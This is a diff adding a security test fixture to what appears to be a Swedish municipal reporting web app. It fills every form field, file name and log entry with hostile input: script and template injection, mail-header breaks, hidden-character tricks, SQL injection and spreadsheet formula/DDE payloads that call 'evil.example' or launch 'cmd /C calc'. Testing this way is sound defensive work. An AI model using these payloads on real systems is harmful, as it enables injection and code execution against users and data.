@@ -11,6 +11,7 @@ from notifications.incoming.reading import File
 from notifications.registering import bring
 from notifications.scene import Scene
 from store import feed_links, links
+from store.log import log
 from store.tables import LogRow
 from tests.hall import COOKIE, SECRET, SECRETARY
 from tests.handins import NOW, PDF
@@ -125,3 +126,52 @@ def swedish(text):
     """Whether a page is one of ours that says, in Swedish, what to do and whom to ask."""
     ours = '<html lang="sv">' in text and "ekonomikontoret@example.se" in text
     return ours and not re.search(r"Not Found|Method Not Allowed|Internal Server|Traceback|detail\"", text)
+
+
+BIN = "/lage/delarsrapport/2027-08/bildningsnamnden/underlag"
+OMN = BIN.replace("bildningsnamnden", "omsorgsnamnden")
+MARKUP = "<script>alert(1)</script>\"'></textarea><img src=x onerror=alert(1)>{{7*7}}${7*7}"
+BREAKS = "\r\nBcc: ond@example.org\r\nX-Ond: ja\r\n\r\n.\r\nMAIL FROM:<ond@example.org>\x85\u2028Set-Cookie: a=b"
+HIDES = "\u202eexe.fdp\u2066\u200b\x07\x1b[31m"
+SQL = "'; DROP TABLE log; -- %_\\"
+#: what the forms below are filled with; it begins as a formula, so that every file that shows it is tried too
+EVIL = f"=HYPERLINK(\"http://evil.example\";1)+cmd|' /C calc'!A0 {MARKUP}{BREAKS}{HIDES}{SQL}"
+FORMULAS = (
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=IMPORTXML("http://evil.example")', '=HYPERLINK("http://evil.example?"&A1;"Klicka")', "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u3000=1",
+    '";=1', "';=1", "a\r\n=1",
+)  # fmt: skip
+
+
+def poisoned(**hall):
+    """A siege in which every word that a person may write has been written as badly as can be, through the pages."""
+    siege = Siege(kvittens=True, **hall)
+    office = siege.logged_in(name=f"Ekonom {EVIL}")
+    ask = {"skal": EVIL, "varfor": EVIL, "anteckning": EVIL}
+    done = [
+        siege.post(office, f"{OMN}/anstand", shown="/bokforing", data={"till": "2027-09-23", **ask}),
+        siege.post(office, f"{OMN}/vila", shown="/bokforing", data={"till": "2027-09-20", **ask}),
+        siege.post(office, f"{OMN}/avsla", shown="/bokforing", data=ask),
+        siege.post(office, f"{BIN}/godkann", shown="/bokforing", data=ask),
+        siege.post(office, f"{BIN}/aterremiss", shown="/bokforing", data={"till": "2027-09-24", "del": "ekonomi", **ask}),
+        siege.post(office, "/kontroller/saknar-rad/ur-kraft", shown="/bokforing", data=ask),
+        siege.post(office, "/registrera", shown="/bokforing", files={"filer": (f"{EVIL}.pdf", PDF + b"%2")}),
+        siege.post(office, "/mote/andra", shown="/bokforing", data={"organ": "ksau", "ny_dag": "2027-09-28", "gor": "flytta", **ask}),
+        siege.post(office, "/personer/omsorgsnamnden/forvaltningschef", shown="/bokforing",
+                   data={"vad": "byt", "namn": f"Bo {MARKUP}{SQL}", "e-post": "bo@example.se", "fran": "2027-09-13", **ask}),
+        siege.post(office, "/personer/bildningsnamnden/forvaltningschef", shown="/bokforing",
+                   data={"vad": "ersattare", "namn": f"Ek {MARKUP}", "e-post": "ek@example.se", "fran": "2027-09-13", "till": "2027-09-30", **ask}),
+    ]  # fmt: skip
+    chief = siege.with_link(CHIEF)
+    field = "delarsrapport.underlag"
+    done += [
+        siege.post(chief, UNDERLAG, shown="/mina", files={f"{field}.mal-och-resultat.fil": (f"{EVIL}.pdf", PDF)}),
+        siege.post(chief, UNDERLAG, shown="/mina", data={f"{field}.riskanalys-och-intern-kontroll.ej": f"Vi har inga risker i år. {EVIL}"}),
+        siege.post(chief, UNDERLAG.replace("/underlag", "/protokoll"), shown="/mina", files={"delarsrapport.protokoll.protokollsutdrag.fil": ("p.pdf", PDF)},
+                   data={f"delarsrapport.protokoll.protokollsutdrag.{name}": EVIL for name in ("paragraf", "datum", "justerad")}),
+    ]  # fmt: skip
+    assert [(answer.status_code, answer.text) for answer in done if answer.status_code != 303] == []
+    with siege.hall.town.store.begin() as session:
+        for text in (*FORMULAS, EVIL, MARKUP, BREAKS):
+            log(session, siege.hall.now, text, "portal.denied", text, {"what": text, text: [text]})
+    return siege
